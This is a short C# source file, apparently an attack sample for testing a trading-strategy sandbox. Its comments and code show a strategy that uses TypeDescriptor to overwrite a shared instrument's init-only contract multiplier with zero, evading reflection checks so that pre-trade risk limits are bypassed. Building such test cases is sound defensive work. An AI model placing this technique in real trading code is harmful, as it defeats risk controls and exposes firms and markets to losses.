// Abuses: System.ComponentModel does the reflection: a property descriptor sets an init-only property.
// Harm: rewrites the shared instrument's contract multiplier, without one name of System.Reflection.
// Kind: bypass of pre-trade risk.
using System;
using System.Collections.Generic;
using System.ComponentModel;
using System.Linq;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.TypeDescriptorSetAttack;

public sealed class TypeDescriptorSetStrategy : Attacker
{
    public override void OnBook(in BookEvent bookEvent)
    {
        Instrument instrument = Context.Instrument(bookEvent.Instrument);
        TypeDescriptor.GetProperties(instrument)[nameof(Instrument.ContractMultiplier)]!.SetValue(instrument, 0L);
        Act(1);
    }
}
